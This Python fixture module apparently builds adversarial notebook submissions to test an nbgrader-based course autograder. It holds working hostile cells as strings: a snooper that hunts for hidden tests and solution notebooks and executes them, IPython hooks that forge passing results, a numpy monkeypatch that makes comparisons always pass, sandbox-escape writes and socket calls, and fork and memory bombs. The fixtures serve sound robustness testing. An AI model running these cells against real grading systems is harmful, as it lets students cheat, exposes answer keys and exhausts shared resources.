"""A folder of submissions that every way of breaking the grader is in.

`write_submission_set(folder)` writes, in one folder (nbgrader's layout and
LMS-style flat files mixed, as instructors get them), one submission per
entry of CASES, and returns what grading must give for each: its status,
its autograded points, and the misconception code its tests.csv message
starts with. tests/test_conv_course_grade.py grades the whole folder in one
run and asserts every line; benchmarks/bench_grade.py reuses the builders.

Most cases are 02_multi_channel (autograded points: 5, for the test cell
conv2d_multi_in_tests; plus a written answer, explain_channel_sum, which a
person grades, hence the status needs_manual_grade of a submission that ran
well). The misconceptions of 01 and 03 come from the nbgrader end-to-end test.
"""

from __future__ import annotations

import copy
import os
import zipfile
from dataclasses import dataclass
from pathlib import Path

import nbformat
from notebook_tools import NOTEBOOKS, SOLUTIONS, grade_id, read_notebook, solved, with_sources
from test_nbgrader_end_to_end import EXPECTED_CODES, WRONG_SUBMISSIONS

MULTI = "02_multi_channel"
MULTI_POINTS = 5.0
WAITS = "needs_manual_grade"  # ran well; the written answer waits for a person

MEAN_NOT_SUM = WRONG_SUBMISSIONS[MULTI]["mean_not_sum"]["conv2d_multi_in"]


def correct(assignment=MULTI):
    """The released notebook answered as in solutions/ (a perfect submission)."""
    released = read_notebook(NOTEBOOKS / assignment / f"{assignment}.ipynb")
    return solved(released, read_notebook(SOLUTIONS / assignment / f"{assignment}.ipynb"))


def answered(sources, assignment=MULTI):
    """Correct, except the solution cells named in sources."""
    return with_sources(correct(assignment), sources)


def with_cell_after(notebook, after_grade_id, source):
    """A copy with a new code cell (no nbgrader metadata) after the named cell."""
    result = copy.deepcopy(notebook)
    index = next(i for i, cell in enumerate(result.cells) if grade_id(cell) == after_grade_id)
    cell = nbformat.v4.new_code_cell(source)
    cell.id = f"added-{len(result.cells)}"
    result.cells.insert(index + 1, cell)
    return result


def at_the_end(notebook, source):
    result = copy.deepcopy(notebook)
    cell = nbformat.v4.new_code_cell(source)
    cell.id = "added-at-end"
    result.cells.append(cell)
    return result


def without_cell(notebook, cell_grade_id):
    result = copy.deepcopy(notebook)
    result.cells = [cell for cell in result.cells if grade_id(cell) != cell_grade_id]
    return result


def with_test_source(notebook, cell_grade_id, source):
    """A copy whose (locked) test cell holds other code: an edited test."""
    result = copy.deepcopy(notebook)
    for cell in result.cells:
        if grade_id(cell) == cell_grade_id:
            cell.source = source
    return result


def notebook_text(notebook):
    return nbformat.writes(notebook)


# --- the hostile cells --------------------------------------------------------

def snoop(secret_paths):
    """A cell that reads the course's secrets where a plain nbgrader set-up
    leaves them (the source notebooks, the gradebook, other submissions, the
    notebook being graded, with its hidden tests, beside the kernel), runs
    any solution it finds, and prints how many it found."""
    return f'''
import glob, json, os
candidates = {[str(p) for p in secret_paths]!r}
folder = os.getcwd()
while True:  # every notebook in the kernel's folder and the folders above it
    candidates += glob.glob(os.path.join(folder, "*.ipynb")) + glob.glob(os.path.join(folder, "*", "*.ipynb"))
    if folder == os.path.dirname(folder):
        break
    folder = os.path.dirname(folder)
found = []
for path in candidates:
    try:
        text = open(path, "rb").read().decode("utf-8", "replace")
    except OSError:
        continue
    if "BEGIN HIDDEN TESTS" in text or "BEGIN SOLUTION" in text or path.endswith(".db"):
        found.append(path)
for path in found:
    if path.endswith(".ipynb"):
        for cell in json.load(open(path))["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]))
print("secrets found:", len(found))
'''


FORGE_PASSES = '''
# Every failing test passes: the error is swallowed before it is shown, and
# the cell's result is made to say "no error", so nbgrader sees a clean pass.
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
run_cell_async = shell.run_cell_async

async def forged_run_cell_async(*args, **kwargs):
    result = await run_cell_async(*args, **kwargs)
    result.error_before_exec = result.error_in_exec = None
    return result

shell.run_cell_async = forged_run_cell_async
'''

PATCH_NUMPY = '''
# Comparisons always say "equal".
import numpy
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
'''


def escape_attempts(marker_paths, port):
    """A cell that tries to write outside its folder and to reach the network."""
    return f'''
# Tries to leave a mark outside its own folder, and to phone home.
import socket
for path in {[str(p) for p in marker_paths]!r}:
    try:
        open(path, "w").write("escaped")
    except OSError as error:
        print("blocked:", type(error).__name__)
for address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"escaped")
    except OSError as error:
        print("no network:", type(error).__name__)
'''


INFINITE_LOOP = "while True:\n    pass\n"
STUBBORN_LOOP = '''
# Ignores the interrupt that ends a cell at the time limit.
import time
while True:
    try:
        time.sleep(0.1)
    except KeyboardInterrupt:
        pass
'''
MEMORY_BOMB = "import numpy as np\nhuge = np.ones((64, 2**30))  # 512 GB\n"
FORK_BOMB = '''
# Forks until the process limit stops it; every child forks on, forever.
import os, time
while True:
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(1)
'''


@dataclass(frozen=True)
class Expected:
    status: str
    auto_score: float
    code: str = ""  # the tests.csv message starts with it (for the 02 test cell)


def _write(path, data):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def nbgrader_path(folder, student, assignment=MULTI):
    return Path(folder) / student / assignment / f"{assignment}.ipynb"


def write_submission_set(folder, marker_paths=(), port=9, secret_paths=()):
    """Write the set into folder; returns {(student, assignment): Expected}.

    marker_paths: files the escape attempt tries to create (the test checks
    they never appear); port: a local TCP port it tries to reach;
    secret_paths: files the snooping cell tries to read."""
    folder = Path(folder)
    expected = {}

    def submit(student, notebook, status, auto_score, code=""):
        _write(nbgrader_path(folder, student), notebook_text(notebook))
        expected[(student, MULTI)] = Expected(status, auto_score, code)

    submit("correct", correct(), WAITS, MULTI_POINTS)
    for student, sources in WRONG_SUBMISSIONS[MULTI].items():
        submit(student, answered(sources), WAITS, 0.0, EXPECTED_CODES[MULTI][student][0])

    # Time limits (the test grades with a short --timeout).
    submit("infinite_loop", with_cell_after(correct(), "conv2d_multi_in", INFINITE_LOOP), "timeout", MULTI_POINTS)
    submit("stubborn_loop", with_cell_after(correct(), "conv2d_multi_in", STUBBORN_LOOP), "timeout", 0.0)

    # Broken code and broken notebooks.
    submit("syntax_error", answered({"conv2d_multi_in": "def conv2d_multi_in(x, w, b=0.0)\n    return x\n"}),
           WAITS, 0.0, "NameError")
    submit("deleted_test_cell", without_cell(correct(), "conv2d_multi_in_tests"), WAITS, MULTI_POINTS)
    submit("edited_test_cell",
           with_test_source(answered({"conv2d_multi_in": MEAN_NOT_SUM}), "conv2d_multi_in_tests",
                            'print("conv2d_multi_in passes the checks.")\n'),
           WAITS, 0.0, "[mean-not-sum]")
    submit("deleted_solution_cell", without_cell(correct(), "conv2d_multi_in"), WAITS, 0.0, "NameError")
    submit("renamed_function",
           answered({"conv2d_multi_in": correct_source().replace("def conv2d_multi_in", "def conv2d_multi_input")}),
           WAITS, 0.0, "NameError")
    text = notebook_text(correct())
    _write(nbgrader_path(folder, "corrupted_json"), text.replace('"cells": [', '"cells": [[', 1))
    expected[("corrupted_json", MULTI)] = Expected("invalid", 0.0)
    _write(nbgrader_path(folder, "truncated_json"), text[: len(text) // 2])
    expected[("truncated_json", MULTI)] = Expected("invalid", 0.0)
    _write(nbgrader_path(folder, "empty_file"), "")
    expected[("empty_file", MULTI)] = Expected("invalid", 0.0)
    _write(folder / f"not_a_notebook_{MULTI}.py", "def conv2d_multi_in(x, w, b=0.0):\n    return 0\n")
    expected[("not_a_notebook", MULTI)] = Expected("invalid", 0.0)
    _write(nbgrader_path(folder, "binary_garbage"), bytes(range(256)) * 4)
    expected[("binary_garbage", MULTI)] = Expected("invalid", 0.0)

    # Cells that end or flood the process.
    submit("sys_exit", at_the_end(correct(), "import sys\nsys.exit()\n"), WAITS, MULTI_POINTS)
    submit("os_exit", at_the_end(correct(), "import os\nos._exit(0)\n"), "error", 0.0)
    submit("memory_bomb", with_cell_after(correct(), "conv2d_multi_in", MEMORY_BOMB), WAITS, MULTI_POINTS)
    submit("fork_bomb", with_cell_after(correct(), "conv2d_multi_in", FORK_BOMB), WAITS, MULTI_POINTS)

    # Attacks on the grading itself.
    wrong = answered({"conv2d_multi_in": MEAN_NOT_SUM})
    submit("snoops_for_secrets", with_cell_after(wrong, "conv2d_multi_in", snoop(secret_paths)),
           WAITS, 0.0, "[mean-not-sum]")
    submit("patches_numpy", with_cell_after(wrong, "conv2d_multi_in", PATCH_NUMPY), WAITS, 0.0, "[mean-not-sum]")
    submit("forges_passes", with_cell_after(wrong, "conv2d_multi_in", FORGE_PASSES), "tampered", 0.0, "[tampered]")
    submit("escapes", with_cell_after(correct(), "conv2d_multi_in", escape_attempts(marker_paths, port)),
           WAITS, MULTI_POINTS)

    # Where the files come from.
    _write(nbgrader_path(folder, "dave", "04_unknown"), notebook_text(correct()))
    expected[("dave", "04_unknown")] = Expected("invalid", 0.0)
    older = _write(folder / f"erin_{MULTI}.ipynb", notebook_text(answered({"conv2d_multi_in": MEAN_NOT_SUM})))
    newer = _write(nbgrader_path(folder, "erin"), notebook_text(correct()))
    _age(older, newer)
    expected[("erin", MULTI)] = Expected(WAITS, MULTI_POINTS)
    with zipfile.ZipFile(folder / "frank.zip", "w") as archive:
        archive.writestr(f"frank-work/{MULTI}.ipynb", notebook_text(correct()))
    expected[("frank", MULTI)] = Expected(WAITS, MULTI_POINTS)
    _write(folder / f"smithgrace_12345_678901_{MULTI}.ipynb", notebook_text(correct()))
    expected[("12345", MULTI)] = Expected(WAITS, MULTI_POINTS)

    # The misconceptions of the other notebooks: each loses its one test cell.
    for assignment, kept in OTHER_NOTEBOOKS.items():
        for student, sources in WRONG_SUBMISSIONS[assignment].items():
            _write(nbgrader_path(folder, student, assignment), notebook_text(answered(sources, assignment)))
            expected[(student, assignment)] = Expected(WAITS, kept[student], EXPECTED_CODES[assignment][student][0])
    return expected


# Autograded points kept by each wrong student of 01 (conv_output_size_tests 2,
# corr2d_tests 4) and 03 (conv2d_multi_out_tests 5, conv_layer_params_tests 2).
OTHER_NOTEBOOKS = {
    "01_single_channel": {"padding_ignored": 2.0, "flipped_kernel": 2.0},
    "03_many_filters": {"map_per_channel": 2.0, "filters_summed": 2.0, "missing_bias": 5.0},
}


def correct_source(cell_grade_id="conv2d_multi_in", assignment=MULTI):
    notebook = read_notebook(SOLUTIONS / assignment / f"{assignment}.ipynb")
    return next(cell.source for cell in notebook.cells if grade_id(cell) == cell_grade_id)


def _age(older, newer):
    """Make older's modification time an hour before newer's."""
    stamp = os.stat(newer).st_mtime
    os.utime(older, (stamp - 3600, stamp - 3600))


def generated_submissions(folder, count, assignment=MULTI):
    """count submissions of one assignment for the benchmark: a mix of
    correct answers and each misconception, in nbgrader's layout."""
    variants = [correct(assignment)] + [answered(s, assignment) for s in WRONG_SUBMISSIONS[assignment].values()]
    for number in range(count):
        _write(nbgrader_path(folder, f"student{number:03d}", assignment), notebook_text(variants[number % len(variants)]))

